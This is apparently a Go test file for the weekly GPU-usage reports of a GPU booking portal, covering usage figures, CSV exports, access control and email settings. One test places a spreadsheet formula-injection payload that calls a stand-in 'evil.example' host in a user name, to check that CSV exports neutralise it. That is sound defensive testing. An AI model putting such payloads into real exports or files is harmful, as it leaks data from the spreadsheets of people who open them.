package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/gpubook/gpubook/models"
	"github.com/gpubook/gpubook/models/store/storetest"
	"github.com/gpubook/gpubook/web"
	"github.com/gpubook/gpubook/web/webtest"
)

// reportNow is Wednesday of 2026-W50 in Berlin; W49 is finished.
var reportNow = time.Date(2026, 12, 9, 12, 0, 0, 0, time.UTC)

// reportEnv: root (admin), alice (lead of team A) with a 2-hour booking on
// Monday of W49 that was busy for its first hour, bob (member of A) with
// nothing at all.
func reportEnv(t *testing.T, dialect string) (env *webtest.Env, root, alice, bob *webtest.Client, teamID int64) {
	t.Helper()
	berlin, _ := time.LoadLocation("Europe/Berlin")
	env = webtest.New(t, dialect, func(c *web.Config) { c.Location = berlin; c.Now = func() time.Time { return reportNow } })
	root, alice, bob = env.Client(), env.Client(), env.Client()
	root.SignIn("root@example.org", "Root")
	alice.SignIn("alice@example.org", "Alice")
	bob.SignIn("bob@example.org", "Bob")
	ctx := context.Background()
	a, _ := env.DB.UserByEmail(ctx, "alice@example.org")
	b, _ := env.DB.UserByEmail(ctx, "bob@example.org")
	team := &models.Team{Name: "A"}
	must(t, env.DB.CreateTeam(ctx, team, models.CLIActor))
	must(t, env.DB.SetMembership(ctx, &models.Membership{TeamID: team.ID, UserID: a.ID, Role: models.RoleLead}, models.CLIActor))
	must(t, env.DB.SetMembership(ctx, &models.Membership{TeamID: team.ID, UserID: b.ID, Role: models.RoleMember}, models.CLIActor))
	gpus, _ := models.NewNodeGPUs("n1", 2, "A100", 81920)
	must(t, env.DB.CreateNode(ctx, &models.Node{Name: "n1"}, gpus, models.CLIActor))
	from := time.Date(2026, 11, 30, 10, 0, 0, 0, berlin).UTC()
	exec := func(q string, args ...any) { must(t, env.DB.Gorm.Exec(q, args...).Error) }
	exec(`INSERT INTO bookings (user_id, node_id, starts_at, ends_at, created_at, updated_at) VALUES (?, (SELECT MIN(id) FROM nodes), ?, ?, ?, ?)`,
		a.ID, from, from.Add(2*time.Hour), from, from)
	exec(`INSERT INTO booking_gpus (booking_id, gpu_id, starts_at, ends_at) VALUES ((SELECT MIN(id) FROM bookings), (SELECT MIN(id) FROM gpus), ?, ?)`,
		from, from.Add(2*time.Hour))
	for m := 0; m < 120; m++ {
		util := 0.0
		if m < 60 {
			util = 75
		}
		exec(`INSERT INTO gpu_usage_minutes (gpu_id, minute, util_avg_pct, util_max_pct, mem_used_mib, mem_total_mib, samples)
			VALUES ((SELECT MIN(id) FROM gpus), ?, ?, ?, 0, 81920, 60)`, from.Add(time.Duration(m)*time.Minute), util, util)
		if m < 60 { // her own process: only the booker's processes make her busy
			exec(`INSERT INTO gpu_user_usage_minutes (gpu_id, minute, user_name, user_id, memory_mib, processes, busy)
				VALUES ((SELECT MIN(id) FROM gpus), ?, 'alice', ?, 4000, 1, TRUE)`, from.Add(time.Duration(m)*time.Minute), a.ID)
		}
	}
	must(t, env.DB.RestampUsage(ctx, from.Add(-time.Hour), from.Add(3*time.Hour))) // rows written around the store
	return env, root, alice, bob, team.ID
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func figureValue(res *webtest.Response, label string) string {
	val := ""
	res.Doc.Find(`[data-testid="table-figures"] tbody tr`).Each(func(_ int, tr *goquery.Selection) {
		if strings.TrimSpace(tr.Find("td").First().Text()) == label {
			val = strings.TrimSpace(tr.Find("td").Eq(1).Text())
		}
	})
	return val
}

func TestReportMyUsage(t *testing.T) {
	t.Parallel()
	for _, d := range storetest.Dialects {
		t.Run(d, func(t *testing.T) {
			t.Parallel()
			_, _, alice, bob, _ := reportEnv(t, d)
			res := alice.Get("/usage?week=2026-W49")
			if res.Code != http.StatusOK {
				t.Fatalf("status %d: %s", res.Code, res.Body.String())
			}
			for label, want := range map[string]string{"GPU-hours booked": "2.0", "GPU-hours busy": "1.0", "Efficiency": "50%",
				"Idle GPU-hours in bookings": "1.0", "Rank": "1 of 2 by busy GPU-hours in A",
				"Booked minutes without per-user data": "no per-user data for 0 minutes", "Used by others on your bookings": "nobody"} {
				if got := figureValue(res, label); got != want {
					t.Errorf("%s = %q, want %q", label, got, want)
				}
			}
			for _, id := range []string{"days-chart", "trend-chart", "heat-chart", "fairshare-sentence", "report-definitions"} {
				if res.Doc.Find(`[data-testid="`+id+`"]`).Length() != 1 {
					t.Errorf("no %s", id)
				}
			}
			if res.Doc.Find("[style]").Length() != 0 {
				t.Error("a style attribute: the CSP forbids them")
			}
			if res.Doc.Find(`[data-testid="usage-more"] a[href^="/usage/team/"]`).Length() != 1 {
				t.Error("alice leads team A: her page should link to its table")
			}
			quiet := bob.Get("/usage?week=2026-W49")
			if quiet.Doc.Find(`[data-testid="report-quiet"]`).Length() != 1 || quiet.Doc.Find(`[data-testid="table-figures"]`).Length() != 0 {
				t.Error("bob, with no activity, should get the short friendly report")
			}
			if now := alice.Get("/usage"); now.Code != http.StatusOK || now.Doc.Find(`[data-testid="so-far"]`).Length() != 1 {
				t.Errorf("this week so far: %d", now.Code)
			}
			if bad := alice.Get("/usage?week=2026-W99"); bad.Code != http.StatusBadRequest && bad.Code != http.StatusUnprocessableEntity {
				t.Errorf("bad week: %d", bad.Code)
			}
		})
	}
}

func TestReportCSV(t *testing.T) {
	t.Parallel()
	_, root, alice, _, team := reportEnv(t, "sqlite")
	res := alice.Get("/usage?week=2026-W49&format=csv&table=days")
	if res.Code != http.StatusOK || !strings.HasPrefix(res.Header().Get("Content-Type"), "text/csv") {
		t.Fatalf("csv: %d %s", res.Code, res.Header().Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(res.Body.String())).ReadAll()
	if err != nil || len(rows) != 8 {
		t.Fatalf("rows %v, %v", rows, err)
	}
	if got := strings.Join(rows[1], "|"); got != "Mon 11-30|2.0|1.0|50%" {
		t.Errorf("Monday row %q", got)
	}
	for _, path := range []string{"/usage?week=2026-W49&format=csv&table=figures", "/usage?week=2026-W49&format=csv&table=trend",
		"/usage?week=2026-W49&format=csv&table=heat", "/admin/usage?week=2026-W49&format=csv&table=users",
		"/admin/usage?week=2026-W49&format=csv&table=cluster", "/usage/team/" + itoa(team) + "?week=2026-W49&format=csv&table=members"} {
		c := alice
		if strings.HasPrefix(path, "/admin") {
			c = root
		}
		if r := c.Get(path); r.Code != http.StatusOK || !strings.Contains(r.Body.String(), ",") {
			t.Errorf("%s: %d", path, r.Code)
		}
	}
	if r := alice.Get("/usage?format=csv&table=nope"); r.Code != http.StatusNotFound {
		t.Errorf("unknown table: %d", r.Code)
	}
}

func TestReportTeamAndClusterAccess(t *testing.T) {
	t.Parallel()
	_, root, alice, bob, team := reportEnv(t, "sqlite")
	path := "/usage/team/" + itoa(team) + "?week=2026-W49"
	for name, tc := range map[string]struct {
		c    *webtest.Client
		path string
		want int
	}{
		"lead sees team": {alice, path, http.StatusOK}, "admin sees team": {root, path, http.StatusOK},
		"member does not": {bob, path, http.StatusForbidden}, "admin cluster": {root, "/admin/usage?week=2026-W49", http.StatusOK},
		"user no cluster": {alice, "/admin/usage", http.StatusForbidden},
	} {
		t.Run(name, func(t *testing.T) {
			if res := tc.c.Get(tc.path); res.Code != tc.want {
				t.Errorf("%s: %d, want %d", tc.path, res.Code, tc.want)
			}
		})
	}
	res := alice.Get(path)
	if n := res.Doc.Find(`[data-testid="table-members"] tbody tr`).Length(); n != 2 {
		t.Errorf("team table has %d rows, want 2", n)
	}
	cl := root.Get("/admin/usage?week=2026-W49")
	if cl.Doc.Find(`[data-testid="table-cluster"]`).Length() != 1 || cl.Doc.Find(`[data-testid="table-top_idle"] tbody tr`).Length() != 1 {
		t.Error("cluster page lacks its summary or top idle list")
	}
}

func TestReportEmailPreference(t *testing.T) {
	t.Parallel()
	env, _, _, bob, _ := reportEnv(t, "sqlite")
	page := bob.Get("/profile")
	if _, checked := page.Doc.Find(`[data-testid="report-email"]`).Attr("checked"); !checked {
		t.Fatal("the weekly email should be on by default")
	}
	if res := bob.Post("/profile/report-email", nil); res.Code != http.StatusSeeOther || res.Header().Get("Location") != "/profile#email" {
		t.Fatalf("save: %d %s", res.Code, res.Header().Get("Location"))
	}
	u, _ := env.DB.UserByEmail(context.Background(), "bob@example.org")
	if on, err := env.DB.ReportEmail(context.Background(), u.ID); err != nil || on {
		t.Errorf("after unticking: on=%v, %v", on, err)
	}
	if _, checked := bob.Get("/profile").Doc.Find(`[data-testid="report-email"]`).Attr("checked"); checked {
		t.Error("the checkbox should now be clear")
	}
	bob.Post("/profile/report-email", url.Values{"report_email": {"on"}})
	if on, _ := env.DB.ReportEmail(context.Background(), u.ID); !on {
		t.Error("ticking it again should turn the email back on")
	}
}

// TestReportCSVDefusesFormulas: names come from sign-up and SSO; a name a
// spreadsheet would run reaches the cluster and team CSVs as text, while
// the figures stay numbers.
func TestReportCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	for _, d := range storetest.Dialects {
		t.Run(d, func(t *testing.T) {
			t.Parallel()
			env, root, alice, _, team := reportEnv(t, d)
			evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
			must(t, env.DB.Gorm.Exec(`UPDATE users SET name = ? WHERE email = ?`, evil, "alice@example.org").Error)
			for _, tc := range []struct {
				c    *webtest.Client
				path string
			}{
				{root, "/admin/usage?week=2026-W49&format=csv&table=users"},
				{alice, "/usage/team/" + itoa(team) + "?week=2026-W49&format=csv&table=members"},
			} {
				res := tc.c.Get(tc.path)
				rows, err := csv.NewReader(strings.NewReader(res.Body.String())).ReadAll()
				if res.Code != http.StatusOK || err != nil {
					t.Fatalf("%s: %d %v", tc.path, res.Code, err)
				}
				found := false
				for _, row := range rows {
					for _, cell := range row {
						if cell == "'"+evil {
							found = true
						}
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumberCell(cell) {
							t.Errorf("%s: live formula cell %q", tc.path, cell)
						}
					}
				}
				if !found {
					t.Errorf("%s: the name is not in the CSV as text: %v", tc.path, rows)
				}
			}
		})
	}
}

func isNumberCell(s string) bool {
	s = strings.TrimSuffix(s, "%")
	for i, c := range s {
		if !(c >= '0' && c <= '9' || c == '.' || (i == 0 && (c == '-' || c == '+'))) {
			return false
		}
	}
	return len(s) > 1
}

// TestDefinitionsPage: /usage/definitions shows docs/reports.md as a page of
// the portal (its headings and tables rendered, not Markdown source), and
// in Chinese says first that the definitions are in English only.
func TestDefinitionsPage(t *testing.T) {
	t.Parallel()
	env := webtest.New(t, storetest.Dialects[0])
	env.AddUser("ann@example.org", "Ann", false)
	c := env.Client()
	c.SignIn("ann@example.org", "Ann")
	res := c.Get("/usage/definitions")
	if res.Code != http.StatusOK || !strings.HasPrefix(res.Header().Get("Content-Type"), "text/html") {
		t.Fatalf("GET /usage/definitions: %d %q", res.Code, res.Header().Get("Content-Type"))
	}
	doc := res.Doc.Find(`[data-testid="definitions"]`)
	if h := strings.TrimSpace(doc.Find("h1").First().Text()); h != "What the weekly report counts" {
		t.Errorf("first heading %q", h)
	}
	if doc.Find("table").Length() == 0 || doc.Find("h2").Length() < 3 {
		t.Errorf("%d tables, %d h2: the document's tables and sections should be rendered", doc.Find("table").Length(), doc.Find("h2").Length())
	}
	if txt := doc.Text(); strings.Contains(txt, "|---|") || strings.Contains(txt, "## ") || strings.Contains(txt, "**") {
		t.Error("Markdown source shows through the page")
	}
	if res.Doc.Find(`[data-testid="english-only"]`).Length() != 0 {
		t.Error("the English page says it is English only")
	}
	c.Header.Set("Accept-Language", "zh-CN")
	zh := c.Get("/usage/definitions")
	if note := zh.Doc.Find(`[data-testid="english-only"]`).Text(); !strings.Contains(note, "英文") {
		t.Errorf("Chinese page's note = %q, want one saying the definitions are in English", note)
	}
	if title := zh.Doc.Find("title").Text(); !strings.Contains(title, "统计口径") {
		t.Errorf("Chinese page's title = %q", title)
	}
}
